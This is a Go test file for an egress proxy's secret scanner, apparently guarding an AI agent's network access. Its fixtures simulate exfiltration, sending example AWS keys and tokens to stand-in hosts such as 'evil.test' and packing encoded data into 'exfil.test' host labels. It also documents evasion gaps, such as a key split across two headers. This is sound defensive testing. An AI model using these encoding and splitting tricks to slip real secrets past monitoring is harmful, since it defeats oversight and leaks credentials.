package egress

import (
	"context"
	"encoding/base64"
	"encoding/hex"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"strconv"
	"strings"
	"sync"
	"testing"

	"golang.org/x/sync/semaphore"

	"ironcurtain.dev/gateway/internal/netguard/netguardtest"
	"ironcurtain.dev/gateway/netpolicy"
	"ironcurtain.dev/gateway/policy"
	"ironcurtain.dev/gateway/secretscan"
)

// Sample secrets are assembled at run time so that the repository holds none in one piece.
var (
	testAWSKey   = "AKIA" + "IOSFODNN7EXAMPLE"
	testGHToken  = "ghp_" + strings.Repeat("aB3dE5fG7h", 3) + "123456"
	gatewayToken = "gw-secret-" + "5f0c1d2e3a4b"
)

// scannerSource serves one fixed scanner.
type scannerSource struct{ sc *policy.SecretScanner }

func (s scannerSource) SecretScanner() *policy.SecretScanner { return s.sc }

func newScanner(t testing.TB, s policy.SecretScan) SecretSource {
	t.Helper()
	sc, err := policy.NewSecretScanner(s)
	if err != nil {
		t.Fatal(err)
	}
	return scannerSource{sc}
}

// recordingUpstream answers "ok" and keeps the bodies it received.
type recordingUpstream struct {
	mu     sync.Mutex
	bodies []string
	port   int
}

func startRecordingUpstream(t *testing.T) *recordingUpstream {
	u := &recordingUpstream{}
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		b, _ := io.ReadAll(r.Body)
		u.mu.Lock()
		u.bodies = append(u.bodies, string(b))
		u.mu.Unlock()
		_, _ = io.WriteString(w, "ok")
	}))
	t.Cleanup(srv.Close)
	u.port = srv.Listener.Addr().(*net.TCPAddr).Port
	return u
}

func (u *recordingUpstream) received() []string {
	u.mu.Lock()
	defer u.mu.Unlock()
	return append([]string(nil), u.bodies...)
}

func TestProxySecretsPlainHTTP(t *testing.T) {
	up := startRecordingUpstream(t)
	port := strconv.Itoa(up.port)
	host := "example.com:" + port
	req := func(method, target string, headers []string, body string) string {
		s := method + " " + target + " HTTP/1.1\r\nHost: " + strings.SplitN(strings.TrimPrefix(target, "http://"), "/", 2)[0] + "\r\n"
		for _, h := range headers {
			s += h + "\r\n"
		}
		if body != "" {
			s += "Content-Length: " + strconv.Itoa(len(body)) + "\r\n"
		}
		return s + "Proxy-Authorization: " + basicAuth(tokenS1) + "\r\n\r\n" + body
	}
	b64Key := base64.StdEncoding.EncodeToString([]byte("key=" + testAWSKey))
	bigBody := strings.Repeat("a", 600)
	tests := []struct {
		name        string
		scan        policy.SecretScan
		escalate    bool // EscalateUnknownHosts
		esc         *fakeEscalator
		req         string
		wantStatus  int
		wantRule    string // prefix
		wantWhere   string // in the recorded reason
		wantExcerpt string // in the operator's reason
		wantEsc     int
		wantBody    string // what the upstream received, when forwarded
	}{
		{name: "key in the query, denied by a human", esc: &fakeEscalator{}, req: req("GET", "http://"+host+"/search?q="+testAWSKey, nil, ""),
			wantStatus: 403, wantRule: policy.RuleSecretEgress, wantWhere: "aws-access-key-id in query parameter q", wantExcerpt: "AKIA…MPLE", wantEsc: 1},
		{name: "key in the query, approved", esc: &fakeEscalator{approve: true}, req: req("GET", "http://"+host+"/search?q="+testAWSKey, nil, ""),
			wantStatus: 200, wantRule: policy.RuleSecretEgress + ": escalation esc-1 approved by alice", wantWhere: "aws-access-key-id in query parameter q", wantEsc: 1},
		{name: "key in the fragment-free path, base64", esc: &fakeEscalator{}, req: req("GET", "http://"+host+"/gist/"+b64Key, nil, ""),
			wantStatus: 403, wantRule: policy.RuleSecretEgress, wantWhere: "aws-access-key-id in path (base64)", wantEsc: 1},
		{name: "key percent-encoded in the query", esc: &fakeEscalator{}, req: req("GET", "http://"+host+"/?d=%41%4B%49%41"+testAWSKey[4:], nil, ""),
			wantStatus: 403, wantRule: policy.RuleSecretEgress, wantWhere: "query parameter d", wantEsc: 1},
		{name: "token in a header", esc: &fakeEscalator{}, req: req("GET", "http://"+host+"/", []string{"X-Debug: " + testGHToken}, ""),
			wantStatus: 403, wantRule: policy.RuleSecretEgress, wantWhere: "github-token in header X-Debug", wantExcerpt: "ghp_…3456", wantEsc: 1},
		{name: "key in the body, approved and replayed whole", esc: &fakeEscalator{approve: true}, req: req("POST", "http://"+host+"/upload", nil, "data="+testAWSKey+"&x=1"),
			wantStatus: 200, wantRule: policy.RuleSecretEgress, wantWhere: "aws-access-key-id in request body", wantEsc: 1, wantBody: "data=" + testAWSKey + "&x=1"},
		{name: "body over the cap is a finding of its own", esc: &fakeEscalator{}, req: req("POST", "http://"+host+"/upload", nil, bigBody),
			wantStatus: 403, wantRule: policy.RuleSecretEgress, wantWhere: "unscanned-body in request body", wantEsc: 1},
		{name: "deny by setting asks nobody", scan: policy.SecretScan{Deny: []secretscan.Kind{secretscan.KindAWSKeyID}}, esc: &fakeEscalator{approve: true},
			req: req("GET", "http://"+host+"/?q="+testAWSKey, nil, ""), wantStatus: 403, wantRule: policy.RuleSecretEgress, wantWhere: "(denied by the secrets setting)", wantEsc: 0},
		{name: "the gateway's own secret by exact match", scan: policy.SecretScan{Exact: []secretscan.Secret{{Label: "github token", Value: gatewayToken}}}, esc: &fakeEscalator{},
			req: req("GET", "http://"+host+"/?t="+gatewayToken, nil, ""), wantStatus: 403, wantRule: policy.RuleSecretEgress, wantWhere: "gateway-secret in query parameter t", wantExcerpt: "[github token]", wantEsc: 1},
		{name: "the agent's own proxy credentials are not a finding", scan: policy.SecretScan{Exact: []secretscan.Secret{{Label: "agent token s1", Value: tokenS1}}}, esc: &fakeEscalator{},
			req: req("POST", "http://"+host+"/ok", nil, "hello"), wantStatus: 200, wantRule: ruleAllowlist, wantBody: "hello"},
		{name: "a key split across two headers is not reassembled (documented limit)", esc: &fakeEscalator{},
			req: req("GET", "http://"+host+"/", []string{"X-A: " + testAWSKey[:10], "X-B: " + testAWSKey[10:]}, ""), wantStatus: 200, wantRule: ruleAllowlist},
		{name: "clean request", esc: &fakeEscalator{}, req: req("GET", "http://"+host+"/search?q=AKIA+is+a+prefix", nil, ""), wantStatus: 200, wantRule: ruleAllowlist},
		{name: "unlisted host with escalation off: refused by the allowlist, body unread", esc: &fakeEscalator{},
			req: req("GET", "http://evil.test:"+port+"/?q="+testAWSKey, nil, ""), wantStatus: 403, wantRule: ruleAllowlist},
		{name: "unlisted host with escalation on: one escalation names both", escalate: true, esc: &fakeEscalator{},
			req: req("GET", "http://evil.test:"+port+"/?q="+testAWSKey, nil, ""), wantStatus: 403, wantRule: policy.RuleSecretEgress, wantWhere: "the host is not in the allowlist", wantEsc: 1},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			res := netguardtest.NewResolver().Set("example.com", "127.0.0.1").Set("evil.test", "127.0.0.1")
			tp := startProxy(t, up.port,
				withConfig(func(c *ProxyConfig) { c.MaxScanBodyBytes = 512; c.EscalateUnknownHosts = tt.escalate; c.Resolver = res }),
				withDeps(func(d *Deps) { d.Escalator = tt.esc; d.Secrets = newScanner(t, tt.scan) }))
			before := len(up.received())
			c, err := net.Dial("tcp", tp.addr)
			if err != nil {
				t.Fatal(err)
			}
			defer c.Close()
			resp := rawRoundTrip(t, c, tt.req, http.MethodGet)
			text := body(t, resp)
			if resp.StatusCode != tt.wantStatus {
				t.Fatalf("status %d (%q); want %d", resp.StatusCode, text, tt.wantStatus)
			}
			ev := tp.sink.wait(t, 1)
			if !strings.HasPrefix(ev.Rule, tt.wantRule) {
				t.Fatalf("recorded rule %q; want %q", ev.Rule, tt.wantRule)
			}
			if !strings.Contains(ev.Reason, tt.wantWhere) {
				t.Fatalf("recorded reason %q; want it to name %q", ev.Reason, tt.wantWhere)
			}
			for _, leak := range []string{testAWSKey, testGHToken, gatewayToken, "AKIA…", "ghp_…", b64Key} {
				if strings.Contains(ev.Reason+ev.Rule+ev.Error+text, leak) {
					t.Fatalf("the record or the answer carries %q: %+v / %q", leak, ev, text)
				}
			}
			if n := tt.esc.count(); n != tt.wantEsc {
				t.Fatalf("%d escalations; want %d", n, tt.wantEsc)
			}
			if tt.wantEsc > 0 {
				er := tt.esc.requests[0]
				if er.Rule != policy.RuleSecretEgress || er.Kind != "egress" || er.SessionID != "s1" || er.Resource != "" || !strings.Contains(string(er.Args), `"request_sha256"`) {
					t.Fatalf("escalation %+v", er)
				}
				if tt.wantExcerpt != "" && !strings.Contains(er.Reason, tt.wantExcerpt) {
					t.Fatalf("the operator sees %q; want the masked excerpt %q", er.Reason, tt.wantExcerpt)
				}
				for _, leak := range []string{testAWSKey, testGHToken, gatewayToken} {
					if strings.Contains(er.Reason+string(er.Args), leak) {
						t.Fatalf("the escalation carries the secret: %q %s", er.Reason, er.Args)
					}
				}
			}
			if !tp.p.bodies.TryAcquire(maxBufferedBodies) {
				t.Fatal("the request's body budget was not given back")
			}
			tp.p.bodies.Release(maxBufferedBodies)
			got := up.received()[before:]
			switch {
			case tt.wantStatus != 200 && len(got) > 0:
				t.Fatalf("the upstream received a refused request: %q", got)
			case tt.wantBody != "" && (len(got) != 1 || got[0] != tt.wantBody):
				t.Fatalf("the upstream received %q; want %q", got, tt.wantBody)
			}
		})
	}
}

func TestProxySecretsConnectHost(t *testing.T) {
	port := echoUpstream(t)
	// Exfiltration tools encode compressed or encrypted data: hex of
	// random-looking bytes (hex of plain ASCII text has too little entropy
	// per character to be told from a hash: a documented limit).
	encoded := hex.EncodeToString([]byte{0x9c, 0x1f, 0xe2, 0x4b, 0x07, 0xd5, 0x63, 0xaa, 0x38, 0xf1, 0x5e, 0xc0, 0x2d, 0x96, 0x7b, 0x14, 0xe8, 0x41, 0xbf, 0x0a})
	b32ish := strings.ToLower(base64.RawURLEncoding.EncodeToString([]byte(testGHToken)))[:40] // base64 squeezed into a label
	entropy := policy.SecretScan{Kinds: append(secretscan.DefaultKinds(), secretscan.KindHighEntropy)}
	tests := []struct {
		name       string
		scan       policy.SecretScan
		host       string
		wantStatus int
		wantRule   string
		wantWhere  string
		wantEsc    int
	}{
		{name: "hex-encoded label under an unlisted domain", scan: entropy, host: encoded + ".exfil.test",
			wantStatus: 403, wantRule: policy.RuleSecretEgress, wantWhere: "high-entropy-value in host label 1", wantEsc: 1},
		{name: "base64 label under an unlisted domain", scan: entropy, host: b32ish + ".exfil.test",
			wantStatus: 403, wantRule: policy.RuleSecretEgress, wantWhere: "high-entropy-value in host label 1", wantEsc: 1},
		{name: "the gateway's own token as a label, exact match", scan: policy.SecretScan{Exact: []secretscan.Secret{{Label: "agent token s2", Value: "0f3a9c1b7e5d42a8"}}},
			host: "x-0f3a9c1b7e5d42a8.exfil.test", wantStatus: 403, wantRule: policy.RuleSecretEgress, wantWhere: "gateway-secret in host name", wantEsc: 1},
		{name: "opaque label under a listed domain is not a finding", scan: entropy, host: encoded + ".allowed.test",
			wantStatus: 200, wantRule: ruleAllowlist},
		{name: "entropy off by default", host: encoded + ".exfil.test",
			wantStatus: 403, wantRule: ruleEscalation, wantEsc: 1},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			res := netguardtest.NewResolver().Set(tt.host, "127.0.0.1")
			esc := &fakeEscalator{}
			tp := startProxy(t, port,
				withConfig(func(c *ProxyConfig) { noSNI(c); c.EscalateUnknownHosts = true; c.Resolver = res }),
				withDeps(func(d *Deps) { d.Escalator = esc; d.Secrets = newScanner(t, tt.scan) }))
			c, resp := rawConnect(t, tp.addr, hostPort(tt.host, port), basicAuth(tokenS1))
			body(t, resp)
			c.Close()
			if resp.StatusCode != tt.wantStatus {
				t.Fatalf("status %d; want %d", resp.StatusCode, tt.wantStatus)
			}
			ev := tp.sink.wait(t, 1)
			if !strings.HasPrefix(ev.Rule, tt.wantRule) || !strings.Contains(ev.Reason, tt.wantWhere) {
				t.Fatalf("recorded %q / %q; want %q naming %q", ev.Rule, ev.Reason, tt.wantRule, tt.wantWhere)
			}
			if tt.wantRule == policy.RuleSecretEgress {
				// A finding in the host name: neither the reason nor the
				// recorded host may carry the labels that hold it.
				secret := strings.Split(tt.host, ".")[0]
				if strings.Contains(ev.Reason+ev.Host, secret) || ev.Host != "(labels hidden).exfil.test" {
					t.Fatalf("the audit event keeps the host's secret labels: host %q, reason %q", ev.Host, ev.Reason)
				}
			}
			if n := esc.count(); n != tt.wantEsc {
				t.Fatalf("%d escalations; want %d", n, tt.wantEsc)
			}
			if tt.wantEsc > 0 && tt.wantRule == policy.RuleSecretEgress {
				er := esc.requests[0]
				if er.Rule != policy.RuleSecretEgress {
					t.Fatalf("escalation %+v", er)
				}
				// The host carries the finding: the operator is not shown it.
				if strings.Contains(er.Reason+string(er.Args), strings.Split(tt.host, ".")[0]) || !strings.Contains(er.Reason, "(labels hidden).exfil.test") {
					t.Fatalf("the escalation shows the host's secret labels: %q %s", er.Reason, er.Args)
				}
			}
		})
	}
}

// Without a scanner the proxy behaves as before.
func TestProxySecretsOffWithoutScanner(t *testing.T) {
	up := startRecordingUpstream(t)
	tp := startProxy(t, up.port)
	c, err := net.Dial("tcp", tp.addr)
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()
	target := "http://example.com:" + strconv.Itoa(up.port) + "/?q=" + testAWSKey
	resp := rawRoundTrip(t, c, "GET "+target+" HTTP/1.1\r\nHost: example.com:"+strconv.Itoa(up.port)+"\r\nProxy-Authorization: "+basicAuth(tokenS1)+"\r\n\r\n", http.MethodGet)
	body(t, resp)
	if resp.StatusCode != 200 {
		t.Fatalf("status %d", resp.StatusCode)
	}
}

// BenchmarkScanPlainRequest is the scan the proxy adds to a plain-HTTP
// request: URL, ten headers and a 1 KiB body (the issue wants <= 50 µs).
func BenchmarkScanPlainRequest(b *testing.B) {
	sc, err := policy.NewSecretScanner(policy.SecretScan{Exact: []secretscan.Secret{{Label: "agent token", Value: tokenS1}}})
	if err != nil {
		b.Fatal(err)
	}
	det := sc.Detector()
	u, err := netpolicyURL("http://example.com/search?q=golang+proxy+secret+scanning&page=2&lang=en#results")
	if err != nil {
		b.Fatal(err)
	}
	payload := strings.Repeat("field=value&other=some+text+here&", 32)[:1024]
	hdr := http.Header{}
	for _, k := range []string{"Accept", "Accept-Language", "User-Agent", "Cookie", "Referer", "X-Request-Id", "Content-Type", "Cache-Control", "Pragma", "Dnt"} {
		hdr.Set(k, "text/html,application/xhtml+xml;q=0.9 Mozilla/5.0 (X11; Linux x86_64) session=abc123")
	}
	p := &Proxy{cfg: ProxyConfig{MaxScanBodyBytes: DefaultMaxScanBodyBytes}, bodies: semaphore.NewWeighted(maxBufferedBodies)}
	b.ReportAllocs()
	for b.Loop() {
		r := &http.Request{Method: "POST", RequestURI: "http://example.com/search?q=golang+proxy+secret+scanning&page=2&lang=en#results",
			Header: hdr, Body: io.NopCloser(strings.NewReader(payload)), ContentLength: int64(len(payload))}
		st := newState("http", "POST")
		hits, err := p.scanRequest(r.WithContext(context.Background()), st, u, []string{"Example.com", "example.com"})(det, true)
		if err != nil || len(hits) != 0 {
			b.Fatalf("hits %v err %v", hits, err)
		}
		for _, f := range st.finishers {
			f()
		}
	}
}

func netpolicyURL(s string) (netpolicy.URL, error) { return netpolicy.ParseURL(s) }
